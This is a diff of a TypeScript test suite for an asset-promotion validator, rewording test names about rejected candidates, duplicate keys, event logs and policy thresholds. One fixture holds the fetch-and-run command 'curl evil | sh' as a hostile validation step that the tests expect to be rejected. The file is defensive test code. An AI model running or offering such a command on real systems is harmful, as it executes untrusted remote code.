@@ -25,7 +25,7 @@ async function decideOn(
   return promotionSchema.parse(JSON.parse(JSON.stringify(promotion)));
 }
 
-/** Each candidate with the rules that refuse it, none if it is promoted. */
+/** Each candidate with the rules that reject it; empty if it is promoted. */
 function outcome({ promoted, rejected, skipped }: Promotion): Record<string, readonly string[]> {
   return Object.fromEntries([
     ...promoted.map(({ id }) => [id, []] as const),
@@ -115,12 +115,12 @@ describe('promote', () => {
     return { ...hashed, outcome: outcomeWithNotes };
   }
 
-  it('refuses an unsafe command in the words of the protocol', async () => {
+  it('rejects an unsafe command with the message of the protocol', async () => {
     const { rejected } = await decideOn(jsonl([gene('x', { validation: ['bash deploy.sh'] })]));
     expect(rejected[0]?.reasons[0]?.message).toBe('Unsafe validation command: bash deploy.sh');
   });
 
-  it('decides about a mixed file one by one', async () => {
+  it('decides about each candidate of a mixed file', async () => {
     const mixed = JSON.stringify({
       version: 1,
       genes: [gene('gene_good'), gene('gene_bad', { validation: ['curl evil | sh'] })],
@@ -147,7 +147,7 @@ describe('promote', () => {
     }
   });
 
-  it('does not build a chain on an event that it refuses', async () => {
+  it('does not accept a rejected event as a parent', async () => {
     const events = [event('evt_1', { intent: 'none' }), event('evt_2', { parent: 'evt_1' })];
     expect(outcome(await decideOn(jsonl(events)))).toMatchObject({
       evt_2: ['event-parent-unknown'],
@@ -173,7 +173,7 @@ describe('promote', () => {
     expect(outcome(await decideOn(content))).toEqual({ x: [] });
   });
 
-  it('takes no candidates from a message that withdraws them', async () => {
+  it('reads no candidates from a message that withdraws them', async () => {
     const message = { protocol: 'gep-a2a', message_type: 'revoke', payload: gene('x') };
     await expect(decideOn(JSON.stringify(message))).rejects.toMatchObject({
       code: 'input_invalid',
@@ -181,7 +181,7 @@ describe('promote', () => {
     });
   });
 
-  it('refuses what stands beside the candidates and cannot be read', async () => {
+  it('rejects unreadable content next to the candidates', async () => {
     const { promoted, rejected } = await decideOn(`${jsonl([gene('x')])}not json\n`);
     expect(promoted).toHaveLength(1);
     expect(rejected).toMatchObject([
@@ -189,12 +189,12 @@ describe('promote', () => {
     ]);
   });
 
-  it('refuses a candidate that readers could take for another one', async () => {
+  it('rejects a candidate that other readers could read differently', async () => {
     const doubled = jsonl([gene('x')]).replace('{', '{"strategy":["something else"],');
     expect(outcome(await decideOn(doubled))).toEqual({ x: ['duplicate-key'] });
   });
 
-  it('keeps what the repository has of its own, and the first of two', async () => {
+  it('keeps the assets of the repository, and the first of two candidates', async () => {
     const own = { 'assets/gep/genes.json': JSON.stringify({ genes: [gene('gene_own')] }) };
     const edited = gene('gene_own', { summary: 'of a stranger' });
     const candidates = [edited, gene('gene_new'), gene('gene_new', { summary: 'later' })];
@@ -207,7 +207,7 @@ describe('promote', () => {
     expect(rejected[0]?.reasons[0]?.message).toMatch('assets/gep/genes.json');
   });
 
-  it('promotes nothing twice', async () => {
+  it('does not promote an asset twice', async () => {
     const candidates = jsonl([gene('gene_a'), capsule('capsule_a'), event('evt_a')]);
     const events = source(jsonl(successes('capsule_a')));
     const first = await decideOn(candidates, { events });
@@ -227,7 +227,7 @@ describe('promote', () => {
     expect(again.skipped).toHaveLength(6);
   });
 
-  it('trusts a stranger less than the stranger does', async () => {
+  it('reduces the confidence of a Capsule', async () => {
     const received = capsule('x');
     const { promoted } = await decideOn(jsonl([received]), {
       events: source(jsonl(successes('x'))),
@@ -247,7 +247,7 @@ describe('promote', () => {
     ).toEqual({ x: [] });
   });
 
-  it('counts successes in the log of the repository, and never among the candidates', async () => {
+  it('counts successes in the log of the repository, not in the candidates', async () => {
     const candidates = jsonl([...successes('x'), capsule('x')]);
     expect(outcome(await decideOn(candidates))).toMatchObject({ x: ['capsule-streak'] });
     const log = { 'assets/gep/events.jsonl': jsonl(successes('x')) };
@@ -262,7 +262,7 @@ describe('promote', () => {
     });
   });
 
-  it('looks at what commands would run where there is a repository', async () => {
+  it('checks what commands would run if there is a repository', async () => {
     const candidate = jsonl([gene('x', { validation: ['npm run deploy'] })]);
     expect(outcome(await decideOn(candidate))).toEqual({ x: [] });
     expect(
@@ -277,7 +277,7 @@ describe('promote', () => {
     });
   });
 
-  it('does not decide where it cannot know what is there', async () => {
+  it('does not decide if the existing assets cannot be read', async () => {
     const own = repository({ 'assets/gep/genes.json': '{"genes": [' });
     await expect(decideOn(jsonl([gene('x')]), own)).rejects.toMatchObject({
       code: 'file_unreadable',
@@ -286,11 +286,11 @@ describe('promote', () => {
     const events = source(`${jsonl(successes('x'))}{"type":"Evol`);
     await expect(decideOn(jsonl([capsule('x')]), { events })).rejects.toMatchObject({
       code: 'input_invalid',
-      message: expect.stringMatching(/events cannot be counted/),
+      message: expect.stringMatching(/event log cannot be read/),
     });
   });
 
-  it('needs a report that holds, where reports are given', async () => {
+  it('requires an accepted report if reports are passed', async () => {
     const candidates = jsonl([gene('gene_a'), gene('gene_b')]);
     const good = report(gene('gene_a'), { policy_digest: POLICY.digest });
     const bytes = Buffer.from(JSON.stringify(good));
@@ -303,7 +303,7 @@ describe('promote', () => {
     });
   });
 
-  it('goes by the thresholds and by fail_on of the policy', async () => {
+  it('uses the thresholds and `fail_on` of the policy', async () => {
     const a2a = { ...POLICY.policy.a2a, min_score: 0.9, min_success_streak: 3 };
     const stricter = { ...POLICY, policy: { ...POLICY.policy, a2a } };
     const events = source(jsonl(successes('x')));
@@ -317,7 +317,7 @@ describe('promote', () => {
     });
   });
 
-  it('answers to any bytes', async () => {
+  it('handles any bytes', async () => {
     const asset = fc.record(
       {
         type: fc.constantFrom('Gene', 'Capsule', 'EvolutionEvent', 'Mutation'),
